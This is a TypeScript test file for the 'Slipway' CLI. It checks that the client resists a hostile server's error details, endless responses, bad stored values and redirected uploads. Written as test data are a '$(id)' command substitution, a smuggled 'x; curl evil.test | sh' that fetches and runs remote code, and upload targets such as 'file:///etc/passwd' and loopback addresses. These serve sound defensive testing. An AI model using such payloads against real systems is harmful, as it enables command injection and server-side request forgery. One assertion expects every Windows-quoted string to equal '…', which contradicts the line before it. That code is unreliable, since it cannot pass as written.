import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { Readable } from 'node:stream'
import { describe, it } from 'node:test'
import { quoteArgument } from '../../client/cli/quote-argument.ts'
import { CredentialStore } from '../../client/cli/state/credentials.ts'
import { Slipway } from '../../client/sdk/slipway.ts'
import { uploadRequest } from '../../client/sdk/upload-targets.ts'
import { startForEachTest } from '../support/started-fixture.ts'
import { CliHarness } from './cli-harness.ts'
import { errorResponse, FakeServer } from './fake-server.ts'

/** A server that answers whatever it likes, and a user who is signed in there. */
async function startSignedIn() {
  const server = await FakeServer.start()
  const cli = new CliHarness()
  const credentials = new CredentialStore(`${cli.home}/.config/slipway/config.json`)
  credentials.remember(server.url, { key: server.key, email: 'ann@example.test' })
  return {
    server,
    cli,
    async [Symbol.asyncDispose]() {
      cli[Symbol.dispose]()
      await server[Symbol.asyncDispose]()
    },
  }
}

describe('a hostile server', () => {
  const fixture = startForEachTest(startSignedIn)

  it('gets an error reported whatever its details are', async () => {
    const { server, cli } = fixture
    const answers: [code: string, details: unknown][] = [
      ['VALIDATION_ERROR', [null, null]],
      ['VALIDATION_ERROR', [{ field: { toString: 1 } }]],
      ['QUOTA_EXCEEDED', {}],
      ['NOT_TRUSTED', { branch: 1 }],
      ['UPLOADS_MISSING', { missing: [{ toString: 1 }] }],
    ]
    for (const [code, details] of answers) {
      server.reply(/./, errorResponse(400, code, details) as [number, unknown])
      const { code: exitCode, stderr } = await cli.run(['whoami'])
      assert.notEqual(exitCode, 0)
      assert.match(stderr, new RegExp(`Error: The server says ${code}`))
    }
  })

  it('puts no commands for a shell into the hints', async () => {
    const { server, cli } = fixture
    const evil = '$(id)'
    const job = { forge: evil, repository: evil, site: evil, branch: evil }
    server.reply(/./, errorResponse(403, 'NOT_TRUSTED', job) as [number, unknown])
    const { stderr } = await cli.run(['whoami'])
    assert.match(stderr, /slipway trust '\$\(id\)' '\$\(id\)' --site '\$\(id\)' --branch '\$\(id\)'\n/)
    assert.equal(quoteArgument("a'b"), `'a'\\''b'`)
    assert.equal(quoteArgument('C:\\my site', 'win32'), '"C:\\my site"')
    for (const text of ["a'b", 'a"b', 'a&b', '%PATH%', '$(id)', 'a`b', 'a^b'])
      assert.equal(quoteArgument(text, 'win32'), '…', text)
  })

  it('cannot use up the memory by a response without an end', async () => {
    const { server, cli } = fixture
    const piece = Buffer.alloc(1024 * 1024, '1')
    server.intercept = (_call, _request, response) => {
      const send = () => {
        while (!response.destroyed && response.write(piece));
      }
      response.on('drain', send)
      send()
      return true
    }
    const { code, stderr } = await cli.run(['whoami'])
    assert.deepEqual([code, /the response is too long/.test(stderr)], [5, true], stderr)
  })

  it('stores nothing on the machine that would fail or slow a later command', async () => {
    const { server, cli } = fixture
    const config = `${cli.home}/.config/slipway/config.json`
    const before = readFileSync(config, 'utf8')
    const account = { apiKey: 'sl_live_1', email: 'ann@example.test', keyName: 'ann@desk', plan: 'free' }
    const long = 'x'.repeat(100_000)
    for (const change of [
      { apiKey: 'a\nb' },
      { apiKey: { toString: 1 } },
      { apiKey: long },
      { apiKey: undefined },
      { email: long },
      { keyName: [] },
    ]) {
      server.reply(/./, [200, { ...account, ...change }])
      const { code, stderr } = await cli.run(['login', '--email', 'ann@example.test', '--code', 'ABCD'])
      assert.deepEqual([code, /a key that cannot be stored/.test(stderr)], [5, true], stderr)
    }
    server.reply(/./, [200, { expiresInSeconds: 600, attempt: long }])
    assert.equal((await cli.run(['login', '--email', 'ann@example.test'])).code, 0)
    assert.equal(readFileSync(config, 'utf8'), before)
    cli.write({ 'index.html': 'x' })
    for (const change of [
      { slug: 'A B' },
      { claimToken: long },
      { upload: { versionId: long, uploads: [] } },
    ]) {
      const upload = { versionId: 'v1', uploads: [], skipped: [], expiresInSeconds: 60 }
      server.reply(/./, [201, { slug: 'otter', siteUrl: 'http://otter.test/', upload, ...change }])
      const { code, stderr } = await cli.run(['publish', '.', '--new'])
      assert.deepEqual([code, /a site that cannot be stored/.test(stderr)], [6, true], stderr)
      assert.deepEqual(cli.siteMemory.all(), [])
    }
  })

  it('cannot add a program to a suggested command', async () => {
    const { server, cli } = fixture
    const suggestedName = 'x; curl evil.test | sh'
    const upload = { versionId: 'v1', uploads: [], skipped: [], expiresInSeconds: 60 }
    const site = { slug: 'otter', siteUrl: 'http://otter.test/', claimToken: 'secret', upload }
    const done = { slug: 'otter', siteUrl: site.siteUrl, versionId: 'v1', currentVersionId: 'v1' }
    const finalized = { ...done, previousVersionId: null, warnings: [], suggestedName }
    server.reply(/^POST /, ({ path }) => (path.endsWith('/finalize') ? [200, finalized] : [201, site]))
    cli.write({ 'index.html': 'x' })
    const { code, stderr } = await cli.run(['publish', '.', '--new'])
    assert.equal(code, 0, stderr)
    assert.match(stderr, /^Keep it: slipway claim --name 'x; curl evil\.test \| sh'$/m)
  })

  it('gets an error reported when it switches to another protocol', async () => {
    fixture.server.intercept = (_call, _request, { socket }) =>
      socket!.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n')
    const { code, stderr } = await fixture.cli.run(['whoami'])
    assert.deepEqual([code, /closed without a response/.test(stderr)], [5, true], stderr)
  })

  it('cannot make a list without an end', async () => {
    const text = async () => '{"publishes":[],"nextCursor":"more"}'
    const send = async () => ({ status: 200, header: () => null, text, bytes: () => Readable.from([]) })
    const slipway = new Slipway({ baseUrl: 'https://slipway.test', send })
    await assert.rejects(slipway.sites().next(), { code: 'BAD_ANSWER' })
  })

  it('ends a list by a page that names no other one', async () => {
    fixture.server.reply(/./, [200, { publishes: [] }])
    assert.equal((await fixture.cli.run(['sites'])).code, 0)
    assert.equal(fixture.server.calls.length, 1)
  })

  it('gets uploads at the name of this machine by which it was reached, and at no other name', () => {
    const cases: [baseUrl: string, url: string, sent: string][] = [
      ['http://[::1]:8080', 'http://localhost:8080/a%20b?token=x', 'http://[::1]:8080/a%20b?token=x'],
      ['http://127.0.0.1:8080', 'http://localhost:8080/a', 'http://127.0.0.1:8080/a'],
      ['http://[::1]:8080', 'http://localhost:8081/a', 'http://localhost:8081/a'],
      ['http://[::1]:8080', 'http://127.0.0.2:8080/a', 'http://127.0.0.2:8080/a'],
      ['https://slipway.example', 'https://up.example/a', 'https://up.example/a'],
    ]
    for (const [baseUrl, url, sent] of cases)
      assert.equal(uploadRequest(baseUrl, { url, headers: {} }).url, sent, baseUrl)
  })

  it('chooses neither the method nor the headers of an upload, nor a target that it cannot have', async () => {
    const { server, cli } = fixture
    cli.write({ 'index.html': 'home' })
    const seen: object[] = []
    server.intercept = (call, request, response) => {
      if (call.path === '/elsewhere') seen.push({ method: call.method, ...request.headers })
      if (call.path !== '/api/v1/publish') return false
      const headers = { 'content-type': 'text/html', Authorization: 'Basic eDp5', 'X-Kill': '1' }
      const uploads = [{ path: 'index.html', method: 'POST', url: `${server.url}/elsewhere`, headers }]
      const upload = { versionId: 'v1', uploads, skipped: [], finalizeUrl: server.url, expiresInSeconds: 60 }
      response.writeHead(200, { 'Content-Type': 'application/json' })
      response.end(JSON.stringify({ slug: 'otter', siteUrl: 'http://otter.test/', upload }))
      return true
    }
    await cli.run(['publish'])
    const [{ method, 'content-type': type, ...headers }] = seen as [Record<string, string>]
    assert.deepEqual([method, type], ['PUT', 'text/html'])
    assert.deepEqual(Object.keys(headers).sort(), ['connection', 'content-length', 'host'])

    const urls: [base: string, target: string, isAccepted: boolean][] = [
      ['https://slipway.example', 'https://upload.example/x', true],
      ['https://slipway.example', 'http://slipway.example/x', false],
      ['https://slipway.example', 'https://127.0.0.1:9200/x', false],
      ['https://slipway.example', 'https://[::ffff:7f00:1]/x', false],
      ['http://slipway.example', 'http://router.lan/x', false],
      ['http://slipway.example', 'file:///etc/passwd', false],
      ['http://slipway.example', '/x', false],
      ['http://127.0.0.1:8080', 'http://localhost:9200/x', true],
      ['', '/api/v1/_upload/x', true],
    ]
    for (const [base, url, isAccepted] of urls) {
      const build = () => uploadRequest(base, { url, headers: {} })
      if (isAccepted) assert.equal(build().url, url)
      else assert.throws(build, { code: 'BAD_ANSWER' }, `${base} ${url}`)
    }
  })
})
